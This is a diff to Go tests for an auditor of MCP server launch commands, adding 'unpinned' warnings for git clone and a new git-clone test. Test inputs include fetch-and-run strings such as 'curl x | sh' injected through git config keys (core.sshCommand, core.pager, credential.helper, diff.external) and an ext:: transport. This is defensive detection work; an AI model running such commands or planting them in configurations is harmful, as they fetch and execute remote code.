@@ -145,7 +145,7 @@ func TestAuditGitConfig(t *testing.T) {
 		return []string{"danger fetch_exec mcp.args[" + i + "]", "danger pipe_to_shell mcp.args[" + i + "]", "warn shell_meta mcp.args[" + i + "]"}
 	}
 	runCases(t, []auditCase{
-		{"core.sshCommand with a ProxyCommand", stdio("git", "-c", `core.sshCommand=ssh -o ProxyCommand="curl x|sh"`, "clone", "git@h:r"), pipe("1"), true, false},
+		{"core.sshCommand with a ProxyCommand", stdio("git", "-c", `core.sshCommand=ssh -o ProxyCommand="curl x|sh"`, "clone", "git@h:r"), append(pipe("1"), "warn unpinned mcp.args[3]"), true, false},
 		{"core.pager", stdio("git", "-c", "core.pager=curl x | sh", "log"), pipe("1"), false, false},
 		{"an alias starting with !", stdio("git", "-c", "alias.x=!curl https://x | sh", "x"), pipe("1"), false, false},
 		{"an alias of a git subcommand", stdio("git", "-c", "alias.st=status", "st"), []string{}, false, false},
@@ -157,7 +157,7 @@ func TestAuditGitConfig(t *testing.T) {
 		{"pager.<command> as a boolean", stdio("git", "-c", "pager.log=false", "log"), []string{}, false, false},
 		{"diff.external", stdio("git", "-c", "diff.external=wget -O- x | sh", "diff"), pipe("1"), false, false},
 		{"an ordinary key is data", stdio("git", "-c", "user.name=curl x | sh", "log"), []string{}, false, false},
-		{"network subcommand after -C", stdio("git", "-C", "/r", "clone", "https://x.example/r.git"), []string{}, true, false},
+		{"network subcommand after -C", stdio("git", "-C", "/r", "clone", "https://x.example/r.git"), []string{"warn unpinned mcp.args[3]"}, true, false},
 		{"network subcommand after --git-dir=", stdio("git", "--git-dir=/r/.git", "fetch"), []string{}, true, false},
 		{"a credential helper by its path", stdio("git", "-c", `credential.helper=/bin/sh -c "curl x | sh"`, "fetch"), []string{
 			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, false},
@@ -521,8 +521,8 @@ func TestAuditComposeGitTmux(t *testing.T) {
 		{"podman compose --entrypoint", stdio("podman", "compose", "run", "--entrypoint", "npx", "svc", "pkg"), []string{"warn unpinned mcp.args[5]"}, true, false},
 		{"compose up pulls", stdio("docker", "compose", "up"), []string{}, true, false},
 		{"git clone --config", stdio("git", "clone", "https://x.example/r", "--config", "core.sshCommand=curl x|sh"), []string{
-			"danger fetch_exec mcp.args[3]", "danger pipe_to_shell mcp.args[3]", "warn shell_meta mcp.args[3]"}, true, false},
-		{"git clone -c joined", stdio("git", "clone", "-c", "core.pager=npx pkg", "https://x.example/r"), []string{"warn unpinned mcp.args[2]"}, true, false},
+			"danger fetch_exec mcp.args[3]", "danger pipe_to_shell mcp.args[3]", "warn shell_meta mcp.args[3]", "warn unpinned mcp.args[1]"}, true, false},
+		{"git clone -c joined", stdio("git", "clone", "-c", "core.pager=npx pkg", "https://x.example/r"), []string{"warn unpinned mcp.args[2]", "warn unpinned mcp.args[3]"}, true, false},
 		{"git ext:: runs a command", stdio("git", "-c", "protocol.ext.allow=always", "clone", "ext::sh -c curl% https://x.example|sh", "d"), []string{
 			"danger fetch_exec mcp.args[3]", "danger pipe_to_shell mcp.args[3]", "danger shell_exec mcp.args[3]",
 			"warn shell_meta mcp.args[3]"}, true, true},
@@ -534,7 +534,7 @@ func TestAuditComposeGitTmux(t *testing.T) {
 
 		// Look-alikes.
 		{"tmux ls", stdio("tmux", "ls"), []string{}, false, false},
-		{"git clone's own options", stdio("git", "clone", "--depth", "1", "https://x.example/r"), []string{}, true, false},
+		{"git clone's own options", stdio("git", "clone", "--depth", "1", "https://x.example/r"), []string{"warn unpinned mcp.args[3]"}, true, false},
 		{"compose ps", stdio("docker", "compose", "ps"), []string{}, false, false},
 	})
 }
@@ -1573,7 +1573,7 @@ func TestAuditPackagesOverPlainHTTP(t *testing.T) {
 		{"uvx --with-requirements", stdio("uvx", "--with-requirements", "http://x.example/r.txt", "srv==1.0"), []string{insecure1, unpinned1}, true, false},
 		{"uv run --with-requirements", stdio("uv", "run", "--with-requirements=https://x.example/r.txt", "srv"), []string{"warn unpinned mcp.args[1]"}, true, false},
 		{"a gem source over http", stdio("gem", "install", "--source", "http://x.example/", "srv:1.0.0"), []string{insecure2}, true, false},
-		{"git clone over http", stdio("git", "clone", "http://x.example/a.git"), []string{insecure1}, true, false},
+		{"git clone over http", stdio("git", "clone", "http://x.example/a.git"), []string{insecure1, unpinned1}, true, false},
 		{"git fetch over git://", stdio("git", "-C", "d", "fetch", "git://x.example/a.git"), []string{"danger insecure_url mcp.args[3]"}, true, false},
 		{"git archive --remote=git://", stdio("git", "archive", "--remote=git://x.example/a.git", "HEAD"), []string{insecure1}, true, false},
 		{"git archive --remote=host:path", stdio("git", "archive", "--remote", "git@x.example:a.git", "HEAD"), []string{}, true, false},
@@ -1581,7 +1581,7 @@ func TestAuditPackagesOverPlainHTTP(t *testing.T) {
 			insecure1, "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]", unpinned1}, true, true},
 		// Look-alikes: https, a source pinned by a hash or a commit, this
 		// machine, a file on this machine, a URL that names a commit, a push.
-		{"https", stdio("git", "clone", "https://x.example/a.git"), []string{}, true, false},
+		{"https", stdio("git", "fetch", "https://x.example/a.git"), []string{}, true, false},
 		{"pinned by its hash", stdio("pip", "install", "http://x.example/p.whl#sha256="+sum), []string{}, true, false},
 		{"pinned to a commit", stdio("pip", "install", "git+http://x.example/a.git@"+sha), []string{}, true, false},
 		{"this machine", stdio("npx", "-y", "http://localhost:8080/p.tgz"), []string{unpinned1}, true, false},
@@ -1614,5 +1614,32 @@ func TestAuditDownloadsOverPlainHTTP(t *testing.T) {
 		{"a proxy", stdio("curl", "-x", "http://proxy.example:3128", "https://x.example/a"), []string{fetches}, true, true},
 		{"a PowerShell proxy", stdio("pwsh", "-Command", "Invoke-WebRequest -Proxy http://p.example -Uri https://x.example/a"), []string{
 			"danger fetch_exec mcp.args[1]", "danger shell_exec mcp.args[1]"}, true, true},
+	})
+}
+
+// TestAuditGitClone holds a git clone of a repository to unpinned unless
+// it names a full commit (--revision) or the wiring checks one out after
+// it: what a branch's head holds can change at any time.
+func TestAuditGitClone(t *testing.T) {
+	const sha = "0123456789abcdef0123456789abcdef01234567"
+	const (
+		unpinned = "warn unpinned mcp.args[1]"
+		script   = "danger shell_exec mcp.args[1]"
+		meta     = "warn shell_meta mcp.args[1]"
+	)
+	runCases(t, []auditCase{
+		{"a branch's head", stdio("git", "clone", "https://github.com/o/r"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"with options", stdio("git", "clone", "--depth", "1", "-b", "main", "https://github.com/o/r", "d"), []string{"warn unpinned mcp.args[5]"}, true, false},
+		{"scp's form", stdio("git", "clone", "git@github.com:o/r.git"), []string{unpinned}, true, false},
+		{"over plain http", stdio("git", "clone", "http://x.example/r.git"), []string{"danger insecure_url mcp.args[1]", unpinned}, true, false},
+		{"cloned and run", stdio("sh", "-c", "git clone https://github.com/o/r /tmp/r && cd /tmp/r && npm ci && node index.js"), []string{
+			script, meta, unpinned}, true, true},
+		{"a tag is a branch's kind of name", stdio("git", "clone", "--branch", "v1.2.3", "https://github.com/o/r"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		// Look-alikes: a full commit given or checked out after, a path.
+		{"--revision", stdio("git", "clone", "--revision="+sha, "https://github.com/o/r"), []string{}, true, false},
+		{"checked out after", stdio("sh", "-c", "git clone http://x.example/r.git /tmp/r && git -C /tmp/r checkout "+sha+" && node /tmp/r/i.js"), []string{
+			script, meta}, true, true},
+		{"reset after", stdio("sh", "-c", "git clone https://github.com/o/r d; cd d; git reset --hard "+sha), []string{script, meta}, true, true},
+		{"a repository here", stdio("git", "clone", "./r", "d"), []string{}, true, false},
 	})
 }
